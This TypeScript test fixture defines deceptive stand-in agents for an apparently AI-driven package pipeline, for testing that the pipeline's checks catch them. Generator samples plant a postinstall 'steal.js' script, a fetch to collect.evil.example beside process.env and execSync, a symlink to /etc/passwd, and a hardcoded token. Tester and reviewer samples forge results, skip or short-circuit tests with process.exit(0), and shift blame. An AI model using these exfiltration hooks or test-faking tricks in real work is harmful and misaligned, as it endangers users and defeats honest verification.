import { PARTS } from '@tapwright/conformance';
import { createTestAgent } from '../agents/test-agent.ts';
import type { Agents, Bench, Snapshot, TestReviewOutcome } from '../agents/agent.ts';
import {
  accomplice,
  changed,
  claiming,
  forgedResults,
  linked,
  listed,
  neverContent,
  printing,
  type Changes,
} from './accomplice.fixture.ts';
import { sentBack } from './code-liars.fixture.ts';
import type { Liar } from './liars.fixture.ts';

const ONCE = { reviews: 0, codeFixes: 1, testFixes: 1, research: 1 };
const WRONG_TEST = "import { test } from 'node:test';\nimport assert from 'node:assert';\n";

const parked = (at: Liar['ends']['at'], reason: RegExp, hint: RegExp = /./): Liar['ends'] => ({
  status: 'parked',
  at,
  reason,
  hint,
});

/** A generator who brings this, and a tester who covers for it: the review is all that is left. */
function smuggling(
  name: string,
  change: Changes | ((bench: Bench, snapshot: Snapshot) => Promise<Snapshot>),
  found: RegExp,
): Liar {
  const make =
    typeof change === 'function'
      ? change
      : async (bench: Bench, snapshot: Snapshot) => changed(bench, snapshot, change);
  return {
    name,
    limits: ONCE,
    agents: (honest) => ({ generate: printing(make)(honest), test: accomplice }),
    ends: parked('review', found, /Mend what it says/),
  };
}

/** What else a generator may bring, and where that ends. */
function bringing(
  name: string,
  change: (bench: Bench, snapshot: Snapshot) => Promise<Snapshot>,
  ends: Liar['ends'],
): Liar {
  return { name, limits: ONCE, agents: (honest) => ({ generate: printing(change)(honest) }), ends };
}

/** A generator who does this when it is to repair. */
function mending(name: string, change: Changes, ends: Liar['ends']): Liar {
  return {
    name,
    decide: sentBack,
    agents: (honest) => ({
      generate: async (task, bench) => {
        const printed = await honest.generate({ ...task, mode: 'GENERATE' }, bench);
        return task.mode === 'GENERATE'
          ? printed
          : { ...printed, package: await changed(bench, printed.package, change) };
      },
    }),
    limits: { ...ONCE, reviews: 1 },
    ends,
  };
}

const HOOKS = `import { execSync } from 'node:child_process';
export const all = [process.env, fetch('https://collect.evil.example'), eval('1'), execSync];
`;
const NO_LISTING = /listing of a package has an entry that is none/;

export const PACKAGE_LIARS: readonly Liar[] = [
  smuggling(
    'has a script run when the package is installed',
    async (bench, snapshot) => {
      const text = await textOf(bench, snapshot, 'package.json');
      const manifest = { ...JSON.parse(text), scripts: { postinstall: 'node steal.js' } };
      return changed(bench, snapshot, { 'package.json': `${JSON.stringify(manifest, undefined, 2)}\n` });
    },
    /package\.json:\d+ dependencies: .*postinstall/,
  ),
  smuggling(
    'adds a dependency',
    async (bench, snapshot) => {
      const text = await textOf(bench, snapshot, 'package.json');
      return changed(bench, snapshot, {
        'package.json': text.replace('"dependencies": {', '"dependencies": {\n    "left-pad": "1.0.0",'),
      });
    },
    /package\.json:\d+ dependencies: .*left-pad/,
  ),
  smuggling(
    'writes functions that reach for everything',
    { 'src/hooks.ts': HOOKS },
    /code\/import[\s\S]*code\/(eval|process|network)/,
  ),
  smuggling(
    'changes printed code',
    async (bench, snapshot) => {
      const text = await textOf(bench, snapshot, 'src/client.ts');
      return changed(bench, snapshot, { 'src/client.ts': text.replace('api.harbour.example', 'collect.evil.example') });
    },
    /src\/client\.ts:\d+ (generated|hosts)/,
  ),
  smuggling(
    'changes what the mock answers',
    { 'tests/fixtures/ships.json': '[]\n' },
    /tests\/fixtures\/ships\.json.*generated/,
  ),
  smuggling('brings a behaviour of its own for the mock', { 'tests/profile.json': '{}\n' }, /tests\/profile\.json/),
  smuggling(
    'replaces a test by one that cannot fail',
    { 'tests/read.test.ts': `${WRONG_TEST}test('read: all', () => assert.ok(true));\n` },
    /tests\/read\.test\.ts.*generated/,
  ),
  smuggling('leaves a test out', { 'tests/faults.test.ts': undefined }, /tests\/faults\.test\.ts/),
  smuggling(
    'hides a credential in the package',
    { 'src/hooks.ts': `export const key = 'ghp_${'a1B2'.repeat(9)}';\n` },
    /secrets/,
  ),
  {
    ...smuggling('prints another API than was approved', {}, /blueprint\.json:\d+ (blueprint|hosts)/),
    agents: (honest) => ({
      test: accomplice,
      generate: async (task, bench) => {
        const text = Buffer.from(await bench.artefacts.get(task.blueprint)).toString();
        const blueprint = await bench.artefacts.put(text.replaceAll('api.harbour.example', 'collect.evil.example'));
        return honest.generate({ ...task, blueprint }, bench);
      },
    }),
  },
  bringing(
    'brings a link that leads elsewhere',
    async (bench, snapshot) => linked(bench, snapshot, 'src/more.ts', '/etc/passwd'),
    parked('generate', /neither a file nor a folder/, /plain files/),
  ),
  bringing(
    'brings files that lie elsewhere',
    async (bench, snapshot) => listed(bench, snapshot, { '../../etc/cron.d/x': 'x' }),
    parked('test', NO_LISTING),
  ),
  bringing(
    'brings a runtime of its own',
    async (bench, snapshot) => listed(bench, snapshot, { 'node_modules/@tapwright/connector/index.js': 'x' }),
    parked('test', NO_LISTING),
  ),
  bringing('brings a package that nobody kept', async () => 'f'.repeat(64), parked('test', /there is no artefact/)),
  mending(
    'weakens the tests while it repairs code',
    { 'tests/read.test.ts': '' },
    parked('fix-code', /repairing code changed tests: tests\/read\.test\.ts/, /thrown away/),
  ),
];

async function textOf(bench: Bench, snapshot: Snapshot, path: string): Promise<string> {
  const listing: unknown = JSON.parse(Buffer.from(await bench.artefacts.get(snapshot)).toString());
  const hash: unknown = typeof listing === 'object' && listing !== null ? Reflect.get(listing, path) : '';
  return Buffer.from(await bench.artefacts.get(String(hash))).toString();
}

/** A tester who lies so. */
const testing = (name: string, test: Agents['test'], ends: Liar['ends'], more: Partial<Liar> = {}): Liar => ({
  name,
  limits: ONCE,
  agents: () => ({ test }),
  ends,
  ...more,
});

/** Tests that a tester puts in the place of those that were printed, again and again; they are run, really. */
function replacing(
  name: string,
  text: string,
  ends: Liar['ends'],
  { path = 'tests/read.test.ts', by }: { readonly path?: string; readonly by?: Agents['test'] } = {},
): Liar {
  return {
    name,
    limits: { ...ONCE, testFixes: 0 },
    agents: (honest) => ({
      test: async (task, bench) => {
        const lie = await changed(bench, task.package, { [path]: `${WRONG_TEST}${text}\n` });
        return (by ?? honest.test)({ ...task, mode: 'RERUN', package: lie }, bench);
      },
    }),
    ends,
  };
}

const NOT_PRINTED = parked(
  'test-review',
  /tests were repaired 0 times .*tests\/read\.test\.ts: .*not as it was printed/s,
);

/** A tester who fails first, and then does this. */
function relapsing(name: string, mode: 'FIX' | 'RERUN', change: Changes, ends: Liar['ends']): Liar {
  const culprit = mode === 'FIX' ? 'test' : 'surroundings';
  return {
    name,
    limits: ONCE,
    agents: () => ({
      testReview: async () => ({ culprit, reasons: [], feedback: 'try again' }),
      test: async (task, bench) =>
        task.mode === mode
          ? accomplice({ ...task, package: await changed(bench, task.package, change) }, bench)
          : neverContent(task, bench),
    }),
    ends,
  };
}

export const TESTER_LIARS: readonly Liar[] = [
  testing(
    'says that all is well and ran nothing',
    claiming(),
    parked('test', /has no test-results\.json/, /Run its tests/),
  ),
  testing(
    'writes what no runner writes',
    claiming(async () => 'All 176 tests passed.'),
    parked('test', /not what the runner writes/),
  ),
  testing(
    'shows the results of another package',
    claiming(async (bench, snapshot) =>
      forgedResults(bench, await changed(bench, snapshot, { 'src/client.ts': 'export {};\n' })),
    ),
    parked('test', /is of other files: src\/client\.ts/),
  ),
  testing(
    'counts more than it shows',
    claiming(async (bench, snapshot) =>
      forgedResults(bench, snapshot, { counts: { passed: 176, failed: 0, skipped: 0 } }),
    ),
    parked('test', /count 176 passed checks and list 7/),
  ),
  testing(
    'takes failures for successes',
    claiming(async (bench, snapshot) =>
      forgedResults(bench, snapshot, { checks: PARTS.map((part) => ({ name: part, part, status: 'failed' })) }),
    ),
    parked('test', /count 7 passed checks and list 0/),
  ),
  testing(
    'claims a level that nothing was run for',
    claiming(async (bench, snapshot) => forgedResults(bench, snapshot, { level: 'L3' })),
    parked('test', /claim level L3, but what they say comes to L1/),
  ),
  testing(
    'says more than the results do',
    claiming(async (bench, snapshot) => forgedResults(bench, snapshot), 'L3'),
    parked('test', /the tester says level L3/),
  ),
  testing(
    'ran the easy tests only',
    claiming(async (bench, snapshot) =>
      forgedResults(bench, snapshot, {
        checks: [{ name: 'config: fits', part: 'config', status: 'passed' }],
        counts: { passed: 1, failed: 0, skipped: 0 },
      }),
    ),
    parked('test', /says nothing of tests\/connection\.test\.ts/),
  ),
  testing(
    'changes code while it tests',
    async (task, bench) =>
      accomplice({ ...task, package: await changed(bench, task.package, { 'src/client.ts': 'export {};\n' }) }, bench),
    parked('test', /repairing tests changed code: src\/client\.ts/, /thrown away/),
  ),
  relapsing(
    'changes code while it repairs tests',
    'FIX',
    { 'src/streams.ts': 'export {};\n' },
    parked('fix-tests', /repairing tests changed code: src\/streams\.ts/, /thrown away/),
  ),
  relapsing(
    'changes tests in a mere rerun',
    'RERUN',
    { 'tests/read.test.ts': '' },
    parked('rerun', /a mere run changed files: tests\/read\.test\.ts/, /thrown away/),
  ),
  replacing('skips every test', "test('read: ships', { skip: true }, () => assert.ok(false));", NOT_PRINTED),
  replacing(
    'has a test that never ends',
    "test('read: ships', () => new Promise(() => setInterval(() => assert.ok(true), 1000)));",
    parked('test-review', /ended with a signal.*with the tests as they are printed: tests\/read\.test\.ts differ/s),
    { by: createTestAgent({ level: 'L1', timeout: 8000 }) },
  ),
  {
    ...replacing(
      'prints what the reporter would, and ends before anything can fail',
      `for (const part of ${JSON.stringify(PARTS)}) console.log('\\n@@tapwright ' + JSON.stringify({ kind: 'end', name: part + ': all is well', passed: true, milliseconds: 1, file: '/tests/x.test.ts' }));
test('x', () => assert.ok(true));
process.exit(0);`,
      parked(
        'test-review',
        /ended with 0 before its tests did.*with the tests as they are printed: .*extra\.test\.ts/s,
      ),
      { path: 'tests/extra.test.ts' },
    ),
  },
];

/** A test reviewer who says this, whatever is wrong. */
function blaming(name: string, culprit: string, ends: Liar['ends'], more: Partial<Agents> = {}): Liar {
  const outcome = { culprit, reasons: [], feedback: 'it is not our fault' } as unknown as TestReviewOutcome;
  return {
    name,
    limits: { reviews: 1, codeFixes: 2, testFixes: 2, research: 2 },
    agents: () => ({ test: neverContent, testReview: async () => outcome, ...more }),
    ends,
  };
}

export const JUDGE_LIARS: readonly Liar[] = [
  blaming(
    'blames the tests for ever',
    'test',
    parked('test-review', /the tests were repaired 2 times and it is still not right/, /Mend what it says/),
  ),
  blaming('blames the surroundings for ever', 'surroundings', parked('test-review', /repaired 2 times/)),
  blaming('blames research for ever', 'research', parked('research', /it is not our fault/)),
  blaming(
    'blames nobody',
    'unclear',
    parked('test-review', /nobody can say whose mistake it is/, /Look at the failing checks/),
  ),
  blaming('says that all is well', 'none, publish it', parked('test-review', /nobody can say whose mistake it is/)),
  blaming(
    'blames code that nobody wrote',
    'code',
    parked('fix-code', /only a person or a model can make/, /Set a model/),
  ),
];
